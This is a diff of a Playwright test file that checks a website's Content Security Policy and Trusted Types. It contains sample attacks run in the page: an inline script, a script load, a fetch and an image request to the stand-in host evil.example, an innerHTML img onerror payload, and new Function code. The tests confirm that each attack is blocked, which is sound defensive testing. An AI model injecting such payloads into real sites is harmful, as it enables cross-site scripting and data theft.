@@ -1,34 +1,34 @@
 import type { Page } from "@playwright/test";
 import { expect, languages, mockMarket, path, templateDetail, test } from "../kit/browser";
-import { copyOf } from "../kit/copy";
-import { open, takeProblems } from "../kit/visit";
+import { open, takeExpected } from "../kit/navigation";
+import { translations } from "../kit/translations";
 
-/** Notes what the policy refuses from now on, also where the console would be silent. */
-async function watchViolations(page: Page): Promise<string[]> {
+/** Records policy violations from the next page load on, including those that the console does not show. */
+async function recordViolations(page: Page): Promise<string[]> {
 	const violations: string[] = [];
-	await page.exposeFunction("noteViolation", (violation: string) => violations.push(violation));
+	await page.exposeFunction("recordViolation", (violation: string) => violations.push(violation));
 	await page.addInitScript(() => {
-		const { noteViolation } = window as unknown as { noteViolation: (text: string) => void };
+		const { recordViolation } = window as unknown as { recordViolation: (text: string) => void };
 		document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sourceFile }) =>
-			noteViolation(`${violatedDirective} ${blockedURI} ${sourceFile}`),
+			recordViolation(`${violatedDirective} ${blockedURI} ${sourceFile}`),
 		);
 	});
 	return violations;
 }
 
 for (const { code } of languages) {
-	test(`a whole visit in ${code} breaks the policy nowhere`, async ({ page, problems }) => {
-		const violations = await watchViolations(page);
-		const asked: string[] = [];
-		page.on("request", (request) => asked.push(new URL(request.url()).origin));
-		const { market, template, common } = {
-			market: copyOf(code, "market"),
-			template: copyOf(code, "template"),
-			common: copyOf(code, "common"),
+	test(`a visit of all pages in ${code} violates no directive`, async ({ page, consoleErrors }) => {
+		const violations = await recordViolations(page);
+		const origins: string[] = [];
+		page.on("request", (request) => origins.push(new URL(request.url()).origin));
+		const { catalog, template, common } = {
+			catalog: translations(code, "catalog"),
+			template: translations(code, "template"),
+			common: translations(code, "common"),
 		};
 		await open(page, path("/", code));
 		await page.getByRole("radio").last().click();
-		await page.getByRole("link", { name: market.seeAll, exact: true }).click();
+		await page.getByRole("link", { name: catalog.seeAll, exact: true }).click();
 		await page.getByRole("main").getByRole("article").first().getByRole("link").click();
 		await expect(page.getByRole("region", { name: template.description })).not.toBeEmpty();
 		await page.getByRole("tab").last().click();
@@ -39,19 +39,19 @@ for (const { code } of languages) {
 		await page.getByRole("main").getByRole("link", { name: common.actions.goHome }).click();
 		await expect(page.locator("#hero-section")).toBeVisible();
 		expect(violations).toEqual([]);
-		// No analytics, nor anything else from elsewhere, unless the build was told to.
-		expect([...new Set(asked)]).toEqual([new URL(page.url()).origin]);
-		takeProblems(problems, /^Failed to load resource|MarketError/);
+		// Without analytics settings, the build requests nothing from other origins.
+		expect([...new Set(origins)]).toEqual([new URL(page.url()).origin]);
+		takeExpected(consoleErrors, /^Failed to load resource|MarketError/);
 	});
 }
 
-const attempts: Record<string, () => unknown> = {
+const violations: Record<string, () => unknown> = {
 	"an inline script": () => {
 		const script = document.createElement("script");
-		script.append("window.ran = true");
+		script.append("window.executed = true");
 		document.body.append(script);
 	},
-	"a script from elsewhere": () => {
+	"a script of another host": () => {
 		const script = document.createElement("script");
 		script.setAttribute("src", "https://evil.example/x.js");
 		document.body.append(script);
@@ -61,34 +61,34 @@ const attempts: Record<string, () => unknown> = {
 		style.textContent = "body { display: none }";
 		document.head.append(style);
 	},
-	"a call to elsewhere": () => fetch("https://evil.example/").catch(() => {}),
-	"a picture from elsewhere": () => {
+	"a request to another host": () => fetch("https://evil.example/").catch(() => {}),
+	"an image of another host": () => {
 		new Image().src = "https://evil.example/x.png";
 	},
-	"HTML that no policy has made": () => {
-		document.body.innerHTML = "<img src=x onerror='window.ran = true'>";
+	"innerHTML without Trusted Types": () => {
+		document.body.innerHTML = "<img src=x onerror='window.executed = true'>";
 	},
-	"a policy that nobody knows": () => {
+	"an unknown Trusted Types policy": () => {
 		const { trustedTypes } = window as unknown as {
 			trustedTypes: { createPolicy: (name: string, rules: object) => void };
 		};
 		trustedTypes.createPolicy("mine", { createHTML: (html: string) => html });
 	},
-	"code from a text": () => {
-		// Later: what a test evaluates itself is free of the policy.
-		setTimeout(() => new Function("window.ran = true")());
+	"code from a string": () => {
+		// Deferred, since the policy does not apply to code that Playwright evaluates.
+		setTimeout(() => new Function("window.executed = true")());
 	},
 };
 
-for (const [what, attempt] of Object.entries(attempts)) {
-	test(`the policy refuses ${what}`, async ({ page, problems }) => {
-		const violations = await watchViolations(page);
+for (const [description, violate] of Object.entries(violations)) {
+	test(`the policy blocks ${description}`, async ({ page, consoleErrors }) => {
+		const recorded = await recordViolations(page);
 		await mockMarket(page, { detail: () => ({ body: templateDetail("One") }) });
 		await open(page, "/template/1/");
-		await page.evaluate(attempt).catch(() => {});
-		await expect.poll(() => violations.length).toBeGreaterThan(0);
-		expect(await page.evaluate(() => "ran" in window)).toBe(false);
+		await page.evaluate(violate).catch(() => {});
+		await expect.poll(() => recorded.length).toBeGreaterThan(0);
+		expect(await page.evaluate(() => "executed" in window)).toBe(false);
 		await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
-		takeProblems(problems, /Content Security Policy|requires 'Trusted|blocked by CSP|policy "?mine/i);
+		takeExpected(consoleErrors, /Content Security Policy|requires 'Trusted|blocked by CSP|policy "?mine/i);
 	});
 }
